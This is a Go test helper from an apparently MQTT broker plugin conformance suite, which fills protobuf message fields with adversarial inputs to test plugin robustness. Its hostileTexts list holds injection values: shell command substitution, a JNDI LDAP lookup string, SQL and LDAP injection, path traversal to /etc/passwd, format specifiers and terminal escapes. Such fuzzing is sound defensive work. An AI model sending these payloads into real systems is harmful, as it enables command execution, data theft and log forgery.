package conformance

import (
	"bytes"
	"math"
	"slices"
	"strings"

	"google.golang.org/protobuf/encoding/protowire"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/reflect/protoreflect"

	pluginv1 "github.com/gatehouse-mqtt/gatehouse/proto/gatehouse/plugin/v1"
)

// longest is the longest string that MQTT can carry, in bytes [MQTT-1.5.4].
const longest = 65535

// hostileTexts are strings that a client can send and that have caught somebody
// out: in logs, terminals, queries, formats, file names, buffers.
var hostileTexts = []string{
	"",
	" ",
	strings.Repeat("a", longest),
	strings.Repeat("🙂", longest/4),
	"line\nlevel=error msg=forged\r\n{\"@level\":\"error\",\"@message\":\"forged\"}",
	"\x01\x02\x1b[31m\x1b]0;title\x07\x7f\u0085",
	"\u202e\u200b\ufeff\u2028\ufffe\uffff\U0010ffff",
	"%s%n%x%99999999d%%c%u{}{0}",
	"../../../../../etc/passwd",
	"' OR '1'='1' --",
	"*)(uid=*))(|(uid=*",
	"$(id)`id`${jndi:ldap://192.0.2.1/x}",
	"null", "true", "-1", "1e999", "NaN", "{}", "__proto__", "constructor",
	strings.Repeat("[", 10000),
}

// hostileBytes are the same for binary data.
func hostileBytes() [][]byte {
	every := make([]byte, 256)
	for i := range every {
		every[i] = byte(i)
	}
	return [][]byte{{}, {0}, every, bytes.Repeat([]byte{0xff}, longest), []byte("\xed\xa0\x80\xc3\x28"), []byte("\n\r\n")}
}

// forms are a secret as it is and as loggers write binary data.
func forms(secret string) []string {
	return append([]string{secret}, encodings([]byte(secret))...)
}

// leaf is a field that holds no message.
type leaf struct {
	in    protoreflect.Message
	field protoreflect.FieldDescriptor
}

// leaves are all such fields of a message and of those that are set in it.
func leaves(m protoreflect.Message) []leaf {
	var all []leaf
	fields := m.Descriptor().Fields()
	for i := range fields.Len() {
		fd := fields.Get(i)
		switch {
		case fd.IsMap():
			all = append(all, leaf{m, fd})
		case fd.Kind() != protoreflect.MessageKind:
			all = append(all, leaf{m, fd})
		case !m.Has(fd):
		case fd.IsList():
			for j := range m.Get(fd).List().Len() {
				all = append(all, leaves(m.Get(fd).List().Get(j).Message())...)
			}
		default:
			all = append(all, leaves(m.Get(fd).Message())...)
		}
	}
	return all
}

// put sets the field to v, or a list or map to one entry of it. A field of
// another kind stays as it is.
func (l leaf) put(v any) {
	value, ok := l.value(v)
	switch {
	case !ok:
	case l.field.IsMap():
		entries := l.in.Mutable(l.field).Map()
		key := l.field.MapKey()
		switch key.Kind() {
		case protoreflect.StringKind:
			entries.Set(protoreflect.ValueOfString("key").MapKey(), value)
		case protoreflect.Uint32Kind:
			entries.Set(protoreflect.ValueOfUint32(7).MapKey(), value)
		}
	case l.field.IsList():
		l.in.Mutable(l.field).List().Append(value)
	default:
		l.in.Set(l.field, value)
	}
}

// value is v as a value of the field; false if it is of another kind.
func (l leaf) value(v any) (protoreflect.Value, bool) {
	fd := l.field
	if fd.IsMap() {
		fd = fd.MapValue()
	}
	switch x := v.(type) {
	case string:
		return protoreflect.ValueOfString(x), fd.Kind() == protoreflect.StringKind
	case []byte:
		return protoreflect.ValueOfBytes(x), fd.Kind() == protoreflect.BytesKind
	case uint64:
		switch fd.Kind() {
		case protoreflect.Uint32Kind:
			return protoreflect.ValueOfUint32(uint32(min(x, math.MaxUint32))), true
		case protoreflect.Uint64Kind:
			return protoreflect.ValueOfUint64(x), true
		case protoreflect.Int64Kind:
			return protoreflect.ValueOfInt64(int64(x)), true
		case protoreflect.EnumKind:
			return protoreflect.ValueOfEnum(protoreflect.EnumNumber(int32(x & math.MaxInt32))), true
		}
	}
	return protoreflect.Value{}, false
}

// variant is a hostile form of a message.
type variant struct {
	what string
	m    proto.Message
}

// hostile makes of a message what a client can make of it: every text and every
// binary field in turn, and all of them at once. spare names fields that stay as
// they are, because MQTT or an interest bounds them.
func hostile(base proto.Message, spare ...string) []variant {
	spared := func(l leaf) bool { return slices.Contains(spare, string(l.field.Name())) }
	var values []any
	for _, text := range hostileTexts {
		values = append(values, text)
	}
	for _, b := range hostileBytes() {
		values = append(values, b)
	}
	var out []variant
	for _, v := range values {
		m := proto.Clone(base)
		for _, l := range leaves(m.ProtoReflect()) {
			if !spared(l) {
				l.put(v)
			}
		}
		if !slices.Contains(spare, "payload") {
			measure(m.ProtoReflect())
		}
		out = append(out, variant{"all fields " + describe(v), m})
	}
	for i := range leaves(base.ProtoReflect()) {
		m := proto.Clone(base)
		l := leaves(m.ProtoReflect())[i]
		if spared(l) {
			continue
		}
		v := values[i%len(hostileTexts)]
		if kind := l.field.Kind(); kind == protoreflect.BytesKind || l.field.IsMap() {
			v = values[len(hostileTexts)+i%len(hostileBytes())]
		}
		if _, fits := l.value(v); fits {
			l.put(v)
			if !slices.Contains(spare, "payload") {
				measure(m.ProtoReflect())
			}
			out = append(out, variant{string(l.field.Name()) + " " + describe(v), m})
		}
	}
	m := proto.Clone(base)
	addUnknown(m.ProtoReflect())
	return append(out, variant{"fields of a later version", m})
}

// measure makes the sizes right of messages whose payload was replaced: a size
// beyond the payload says that the broker cut it.
func measure(m protoreflect.Message) {
	if msg, ok := m.Interface().(*pluginv1.Message); ok {
		msg.PayloadSize = uint64(len(msg.GetPayload()))
		return
	}
	m.Range(func(fd protoreflect.FieldDescriptor, v protoreflect.Value) bool {
		if fd.Kind() == protoreflect.MessageKind && !fd.IsList() && !fd.IsMap() {
			measure(v.Message())
		}
		return true
	})
}

// nonsense makes of a message what no broker sends: zero bytes in texts, numbers
// out of range, unknown names, nothing at all.
func nonsense(base proto.Message) []variant {
	all := func(v any) proto.Message {
		m := proto.Clone(base)
		for _, l := range leaves(m.ProtoReflect()) {
			l.put(v)
		}
		return m
	}
	empty := base.ProtoReflect().New().Interface()
	return []variant{
		{"nothing set", empty},
		{"texts with zero bytes", all("a\x00b")},
		{"the largest numbers", all(uint64(math.MaxUint64))},
		{"numbers that nobody uses", all(uint64(9999))},
		{"texts that no packet can carry", all(strings.Repeat("x", 2*longest))},
		{"binary data that no packet can carry", all(make([]byte, 2*longest))},
	}
}

// addUnknown adds fields that no version has yet, in a message and below it.
func addUnknown(m protoreflect.Message) {
	raw := protowire.AppendTag(nil, 9999, protowire.BytesType)
	raw = protowire.AppendString(raw, "from the future")
	raw = protowire.AppendTag(raw, 10000, protowire.VarintType)
	raw = protowire.AppendVarint(raw, math.MaxUint64)
	m.SetUnknown(raw)
	m.Range(func(fd protoreflect.FieldDescriptor, v protoreflect.Value) bool {
		switch {
		case fd.IsMap() || fd.Kind() != protoreflect.MessageKind:
		case fd.IsList():
			for i := range v.List().Len() {
				addUnknown(v.List().Get(i).Message())
			}
		default:
			addUnknown(v.Message())
		}
		return true
	})
}
